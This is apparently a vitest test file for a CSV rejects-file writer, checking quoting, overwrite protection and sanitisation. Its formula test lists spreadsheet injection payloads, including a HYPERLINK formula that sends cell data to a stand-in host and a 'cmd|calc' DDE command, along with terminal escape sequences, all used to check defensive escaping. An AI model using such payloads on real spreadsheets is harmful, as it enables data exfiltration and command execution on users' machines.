import { linkSync, readFileSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { temporaryFiles } from '../../../tests/platform/temporary-files.ts'
import { openRejectsFile } from './rejects-file.ts'

const files = temporaryFiles()

it('writes refused rows as CSV, with quotes, commas and line breaks kept', async () => {
  const path = join(files.folder, 'rejects.csv')
  const opened = await openRejectsFile(path, { imported: [] })
  if (!opened.ok) throw new Error(opened.error)
  await opened.value.write({
    path: 'May, 2022.csv',
    line: 12,
    column: 'PRICE',
    value: '"710"\nUSD',
    reason: 'not a price',
  })
  await opened.value.close()
  expect(readFileSync(path, 'utf8')).toBe(
    'file,line,column,value,reason\r\n"May, 2022.csv",12,PRICE,"""710""\nUSD",not a price\r\n',
  )
})

it('never overwrites a file that is being imported, under whatever name', async () => {
  const source = files.write('sold.csv', 'precious')
  const link = join(files.folder, 'link.csv')
  symlinkSync(source, link)
  const hardLink = join(files.folder, 'hard-link.csv')
  linkSync(source, hardLink)
  for (const path of [source, link, hardLink])
    expect(await openRejectsFile(path, { imported: [source] })).toEqual({
      ok: false,
      error: `--rejects ${path} is one of the files to import; name another file.`,
    })
  expect(readFileSync(source, 'utf8')).toBe('precious')
})

it('never overwrites the mapping, under whatever name', async () => {
  const mapping = files.write('map.json', '')
  const link = join(files.folder, 'mapping-link.json')
  linkSync(mapping, link)
  for (const path of [mapping, link])
    expect(await openRejectsFile(path, { imported: [], mapping })).toEqual({
      ok: false,
      error: `--rejects ${path} is the mapping of this import; name another file.`,
    })
})

it.each([
  'my notes',
  '{"columns":{}}',
  'file,line,column,value,reasons\r\n',
  'x\nfile,line,column,value,reason\r\n',
])('never overwrites a file that holds something else: %j', async (content) => {
  const path = files.write('other.csv', content)
  expect(await openRejectsFile(path, { imported: [] })).toEqual({
    ok: false,
    error: `--rejects ${path} exists and holds something else than refused rows; name another file.`,
  })
  expect(readFileSync(path, 'utf8')).toBe(content)
})

it.each([
  '',
  'file,line,column,value,reason',
  'file,line,column,value,reason\nsaved again,',
  `file,line,column,value,reason\r\n${'old rows, many of them: '.repeat(20)}`,
])('replaces the rejects of an earlier import, and an empty file: %j', async (content) => {
  const path = files.write('earlier.csv', content)
  const input = files.write('input.csv', 'PRICE')
  const opened = await openRejectsFile(path, { imported: [input] })
  if (!opened.ok) throw new Error(opened.error)
  await opened.value.close()
  expect(readFileSync(path, 'utf8')).toBe('file,line,column,value,reason\r\n')
})

it.each([
  ['=HYPERLINK("http://a.example?"&A1)', '"\'=HYPERLINK(""http://a.example?""&A1)"'],
  ['+1+cmd|calc', "'+1+cmd|calc"],
  ['-2+3', "'-2+3"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "' =1"],
  ['\r=1', '"\'\n=1"'],
  ['\u001b=1', "'=1"],
  ['＝1', "'＝1"],
  ['-122.3', '-122.3'],
  ['+1.5e3', '+1.5e3'],
  ['a=1', 'a=1'],
])('a cell that a spreadsheet would take for a formula is text: %j', async (value, written) => {
  const path = join(files.folder, 'formulas.csv')
  const opened = await openRejectsFile(path, { imported: [] })
  if (!opened.ok) throw new Error(opened.error)
  await opened.value.write({ path: '=a.csv', line: 2, column: 'PRICE', value, reason: 'no price' })
  await opened.value.close()
  const [, row] = readFileSync(path, 'utf8').split('\r\n')
  expect(row).toBe(`'=a.csv,2,PRICE,${written},no price`)
})

it.each([
  ['\u001b[2J\u0007750\u009b1m', '[2J7501m'],
  ['12 Oak\u202e\u2066 St\u200b', '12 Oak St'],
  ['two\r\nlines\rand\ta tab', '"two\nlines\nand a tab"'],
  ['\u001b"750"', '"""750"""'],
  ['Café 上海 🏠 1,250.5', '"Café 上海 🏠 1,250.5"'],
])('holds nothing that writes over a terminal: %j', async (value, written) => {
  const path = join(files.folder, 'controls.csv')
  const opened = await openRejectsFile(path, { imported: [] })
  if (!opened.ok) throw new Error(opened.error)
  await opened.value.write({ path: 'a.csv', line: 2, column: value, value, reason: 'no price' })
  await opened.value.close()
  const [, row] = readFileSync(path, 'utf8').split('\r\n')
  expect(row).toBe(`a.csv,2,${written},${written},no price`)
})

it('says when it cannot be written', async () => {
  const path = join(files.folder, 'no-such-folder', 'rejects.csv')
  const opened = await openRejectsFile(path, { imported: [] })
  expect(opened.ok ? '' : opened.error).toContain(`--rejects ${path} cannot be written`)
})
